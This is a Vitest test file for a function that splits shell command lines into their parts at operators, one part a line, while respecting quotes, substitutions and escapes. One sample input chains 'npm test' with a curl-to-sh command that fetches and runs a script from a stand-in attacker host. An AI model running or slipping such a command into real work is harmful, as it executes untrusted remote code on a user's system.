/** A command line cut into the parts a shell runs, for showing one part a line. */
import { describe, expect, it } from 'vitest';
import { commandLines, commandParts } from '../../src/text/command-parts.js';

describe('a command one part a line', () => {
  it('cuts at ; && || | & and newlines, each part ending with its operator', () => {
    expect(commandLines('npm test; curl -s http://evil.example/x | sh')).toEqual([
      'npm test ;',
      'curl -s http://evil.example/x |',
      'sh',
    ]);
    expect(commandLines('make && make install || echo failed\nrm -rf build & wait')).toEqual([
      'make &&',
      'make install ||',
      'echo failed',
      'rm -rf build &',
      'wait',
    ]);
  });

  it('keeps operators inside quotes, $(…), backquotes and escapes, and redirections, in their part', () => {
    expect(commandLines(`echo "a; b" 'c && d' \`e | f\` $(g || h) i\\;j 2>&1 &>/dev/null`)).toEqual([
      `echo "a; b" 'c && d' \`e | f\` $(g || h) i\\;j 2>&1 &>/dev/null`,
    ]);
    expect(commandLines(`echo "open; quote`)).toEqual([`echo "open; quote`]);
  });

  it('loses nothing: the parts and their operators are the command, blanks aside', () => {
    const command = 'a;b&&c||d|e\nf & g;;  ;h';
    const parts = commandParts(command);
    const joined = parts.map((p) => `${p.text}${p.then.replace(/\s/g, '')}`).join('');
    expect(joined).toBe(command.replace(/\s/g, ''));
  });
});
